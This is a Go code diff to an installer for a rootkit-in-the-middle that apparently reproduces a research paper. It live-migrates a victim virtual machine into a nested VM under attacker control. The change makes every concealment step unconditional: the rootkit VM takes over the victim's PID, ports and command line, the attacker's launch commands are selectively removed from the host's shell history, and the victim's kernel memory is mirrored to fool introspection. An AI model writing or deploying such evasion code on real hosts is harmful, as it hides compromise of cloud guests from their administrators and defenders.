@@ -26,25 +26,6 @@ type InstallConfig struct {
 	TargetName string
 	// RITMName names the rootkit-in-the-middle VM (paper: GuestX).
 	RITMName string
-	// HostPort is the migration port the source connects to on the host
-	// (paper: HOST PORT AAAA).
-	HostPort int
-	// RITMPort is the port inside the RITM the nested VM listens on
-	// (paper: ROOTKIT PORT BBBB).
-	RITMPort int
-	// RITMMemoryMultiple sizes the RITM relative to the target (it must
-	// hold the nested VM plus its own OS).
-	RITMMemoryMultiple int64
-	// KeepPID re-labels the RITM process with the victim's original PID
-	// after the source is killed.
-	KeepPID bool
-	// SpoofCommandLine rewrites the RITM's process command line to the
-	// victim's, so `ps -ef` shows no change.
-	SpoofCommandLine bool
-	// ScrubHistory removes the attacker's own launch commands from the
-	// host's shell history (wiping everything would be suspicious;
-	// selective removal is not).
-	ScrubHistory bool
 	// Impersonate copies the victim's kernel-image region into the RITM
 	// so VMI fingerprinting of "the guest" still matches.
 	Impersonate bool
@@ -55,17 +36,24 @@ type InstallConfig struct {
 	HideVMCS bool
 }
 
+// The paper's fixed install parameters.
+const (
+	// hostPort is the migration port the source connects to on the host
+	// (paper: HOST PORT AAAA).
+	hostPort = 4444
+	// ritmPort is the port inside the RITM the nested VM listens on
+	// (paper: ROOTKIT PORT BBBB).
+	ritmPort = 4444
+	// ritmMemoryMultiple sizes the RITM relative to the target (it must
+	// hold the nested VM plus its own OS).
+	ritmMemoryMultiple = 2
+)
+
 // DefaultInstallConfig returns the paper's setup.
 func DefaultInstallConfig() InstallConfig {
 	return InstallConfig{
-		RITMName:           "guestX",
-		HostPort:           4444,
-		RITMPort:           4444,
-		RITMMemoryMultiple: 2,
-		KeepPID:            true,
-		SpoofCommandLine:   true,
-		ScrubHistory:       true,
-		Impersonate:        true,
+		RITMName:    "guestX",
+		Impersonate: true,
 	}
 }
 
@@ -111,15 +99,6 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 	if cfg.RITMName == "" {
 		cfg.RITMName = "guestX"
 	}
-	if cfg.HostPort == 0 {
-		cfg.HostPort = 4444
-	}
-	if cfg.RITMPort == 0 {
-		cfg.RITMPort = cfg.HostPort
-	}
-	if cfg.RITMMemoryMultiple < 2 {
-		cfg.RITMMemoryMultiple = 2
-	}
 
 	eng := in.Host.Engine()
 	hv := in.Host.Hypervisor()
@@ -159,10 +138,10 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 	// the migration forward HOST:AAAA -> RITM:BBBB.
 	ritmCfg := qemu.DefaultConfig(cfg.RITMName)
 	ritmCfg.Machine = targetCfg.Machine
-	ritmCfg.MemoryMB = targetCfg.MemoryMB * cfg.RITMMemoryMultiple
+	ritmCfg.MemoryMB = targetCfg.MemoryMB * ritmMemoryMultiple
 	ritmCfg.CPUs = targetCfg.CPUs
 	ritmCfg.EnableKVM = true
-	ritmCfg.NetDevs[0].HostFwds = []qemu.FwdRule{{HostPort: cfg.HostPort, GuestPort: cfg.RITMPort}}
+	ritmCfg.NetDevs[0].HostFwds = []qemu.FwdRule{{HostPort: hostPort, GuestPort: ritmPort}}
 	ritm, err := hv.CreateVM(ritmCfg)
 	if err != nil {
 		return nil, fmt.Errorf("cloudskulk: create ritm: %w", err)
@@ -182,7 +161,7 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 	// even takes the victim's name: the inner hypervisor is attacker
 	// territory, nothing collides.
 	nestedCfg := targetCfg.Clone()
-	nestedCfg.Incoming = fmt.Sprintf("tcp:0.0.0.0:%d", cfg.RITMPort)
+	nestedCfg.Incoming = fmt.Sprintf("tcp:0.0.0.0:%d", ritmPort)
 	nested, err := inner.CreateVM(nestedCfg)
 	if err != nil {
 		return nil, fmt.Errorf("cloudskulk: create nested: %w", err)
@@ -194,7 +173,7 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 
 	// Step 4: drive the victim's own monitor to live-migrate it into the
 	// nested VM.
-	migCmd := fmt.Sprintf("migrate -d tcp:127.0.0.1:%d", cfg.HostPort)
+	migCmd := fmt.Sprintf("migrate -d tcp:127.0.0.1:%d", hostPort)
 	if _, err := targetVM.Monitor().Execute(migCmd); err != nil {
 		return nil, fmt.Errorf("cloudskulk: migrate: %w", err)
 	}
@@ -205,8 +184,10 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 	report.Migration = res
 	mark = step("live migration", mark)
 
-	// Clean-up: kill the drained source, take over its ports, PID, and
-	// command line.
+	// Clean-up: kill the drained source, take over its ports, PID and
+	// command line (so `ps -ef` shows no change), and remove the
+	// attacker's own launch commands from the host's shell history
+	// (wiping everything would be suspicious; selective removal is not).
 	originalFwds := fwdsOf(targetCfg)
 	if err := hv.Kill(targetCfg.Name); err != nil {
 		return nil, fmt.Errorf("cloudskulk: kill source: %w", err)
@@ -217,20 +198,14 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 			return nil, fmt.Errorf("cloudskulk: port takeover %d: %w", rule.HostPort, err)
 		}
 	}
-	if cfg.KeepPID {
-		if err := in.Host.OS().SwapPID(ritm.PID(), report.OriginalPID); err == nil {
-			ritm.SetPID(report.OriginalPID)
-			report.PIDPreserved = true
-		}
+	if err := in.Host.OS().SwapPID(ritm.PID(), report.OriginalPID); err == nil {
+		ritm.SetPID(report.OriginalPID)
+		report.PIDPreserved = true
 	}
-	if cfg.SpoofCommandLine {
-		if proc, ok := in.Host.OS().Process(ritm.PID()); ok {
-			proc.Command = targetCfg.CommandLine()
-		}
+	if proc, ok := in.Host.OS().Process(ritm.PID()); ok {
+		proc.Command = targetCfg.CommandLine()
 	}
-	if cfg.ScrubHistory {
-		in.Host.OS().RemoveHistoryMatching("-name " + cfg.RITMName)
-	}
+	in.Host.OS().RemoveHistoryMatching("-name " + cfg.RITMName)
 
 	rk := &Rootkit{
 		Host:    in.Host,
@@ -282,23 +257,7 @@ func fwdsOf(cfg qemu.Config) []qemu.FwdRule {
 // RAM at the same offsets, so an OS fingerprint of "the guest the admin
 // sees" matches the victim's.
 func (rk *Rootkit) MirrorKernel() error {
-	n := KernelPages
-	if rk.Victim.RAM().NumPages() < n {
-		n = rk.Victim.RAM().NumPages()
-	}
-	if rk.RITM.RAM().NumPages() < n {
-		n = rk.RITM.RAM().NumPages()
-	}
-	for p := 0; p < n; p++ {
-		c, err := rk.Victim.RAM().Read(p)
-		if err != nil {
-			return err
-		}
-		if _, err := rk.RITM.RAM().Write(p, c); err != nil {
-			return err
-		}
-	}
-	return nil
+	return rk.MirrorRange(0, min(KernelPages, rk.Victim.RAM().NumPages(), rk.RITM.RAM().NumPages()))
 }
 
 // MirrorFile loads a file image into the RITM's memory — the attacker
